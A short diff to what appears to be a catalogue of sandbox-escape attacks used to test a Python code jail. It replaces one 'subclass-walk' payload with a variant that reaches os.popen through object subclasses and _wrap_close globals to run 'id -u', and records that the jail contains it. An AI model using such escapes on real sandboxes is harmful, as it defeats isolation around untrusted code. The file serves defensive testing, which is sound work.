@@ -760,11 +760,11 @@ ATTACKS: list[Attack] = [
     Attack(
         "subclass-walk",
         "python escapes",
-        "reach Popen through object.__subclasses__()",
-        "popen = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]\n"
-        "import subprocess\nsubprocess.run(['id', '-u'], capture_output=True, text=True).stdout.strip()",
+        "reach os.popen through ().__class__.__base__.__subclasses__() and __globals__",
+        "wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
+        "wrap.__init__.__globals__['popen']('id -u').read().strip()",
         "runs, but as uid 1000 in the jail: nothing to escape to",
-        "the jail (policy flags the pattern)",
+        "the jail (the policy service flags the pattern)",
         result("'1000'"),
     ),
     Attack(
